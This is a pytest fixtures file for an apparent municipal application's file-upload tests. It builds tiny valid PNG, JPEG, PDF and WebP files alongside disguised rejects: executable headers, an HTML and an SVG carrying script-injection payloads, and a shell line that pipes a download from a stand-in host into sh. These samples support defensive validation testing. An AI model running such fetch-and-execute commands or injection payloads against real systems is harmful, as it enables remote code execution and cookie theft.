"""Fixtures of the files tests: two citizens and a clerk, and small real files of each kind (a
PDF, a PNG, a JPEG, a WebP) beside files that only pretend to be documents."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import func, select

from yiwang.audit import service as audit_service
from yiwang.core.actor import SYSTEM, Actor, Grant
from yiwang.files.models import StoredFile

OWNER_ID = "01JOWNER000000000000000000"
OTHER_ID = "01JOTHER000000000000000000"
CLERK_ID = "01JCLERK000000000000000000"
STREET = "310101002"


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


#: A 1×1 white PNG.
PNG = (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
       + _png_chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + _png_chunk(b"IEND", b""))
#: A 1×1 grey baseline JPEG: JFIF header, one quantisation table, one-code Huffman tables, one block.
JPEG = bytes.fromhex(
    "ffd8" "ffe000104a46494600010100000100010000"
    "ffdb004300" + "01" * 64
    + "ffc0000b080001000101011100"
    "ffc4001400" "01" + "00" * 15 + "00"
    "ffc4001410" "01" + "00" * 15 + "00"
    "ffda000801010000" "3f00" "3f" "ffd9")
#: A one-page PDF.
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
       b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
       b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n"
       b"trailer<</Root 1 0 R>>\n%%EOF\n")
#: A lossless 1×1 WebP (the one browsers are probed with): what a phone may send as a photo.
WEBP = bytes.fromhex("524946461a000000574542505650384c0d0000002f00000010071011118888fe0700")
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + b"\x00" * 20 + b"PK\x05\x06" + b"\x00" * 18


@pytest.fixture
def owner() -> Actor:
    return Actor(kind="citizen", user_id=OWNER_ID, username="owner")


@pytest.fixture
def other() -> Actor:
    return Actor(kind="citizen", user_id=OTHER_ID, username="other")


@pytest.fixture
def clerk() -> Actor:
    return Actor(kind="staff", user_id=CLERK_ID, username="clerk",
                 grants=(Grant("clerk", STREET, None, frozenset({"application.handle"})),))


@pytest.fixture
def on_disk(settings) -> Callable[[], list[Path]]:
    """Every file under the var dir that is not the database (nor its journal), a key, or the
    processes' run state (``run/``: the identity generation counter)."""

    def files() -> list[Path]:
        root = settings.var_dir
        skip = {root / "yiwang.db", root / "yiwang.db-wal", root / "yiwang.db-shm", root / "yiwang.db-journal"}
        return sorted(p for p in root.rglob("*") if p.is_file() and p not in skip
                      and settings.resolved_key_dir not in p.parents and root / "run" not in p.parents)

    return files


@pytest.fixture
def row_count(db) -> Callable[[], int]:
    def count() -> int:
        with db.transaction(write=False) as s:
            return s.scalar(select(func.count()).select_from(StoredFile)) or 0

    return count


@pytest.fixture
def audit_entries(db) -> Callable[[str], list]:
    def entries(action: str) -> list:
        with db.transaction() as s:
            page = audit_service.list_entries(s, SYSTEM, audit_service.EntryFilter(action=action), limit=50)
        return page.items

    return entries
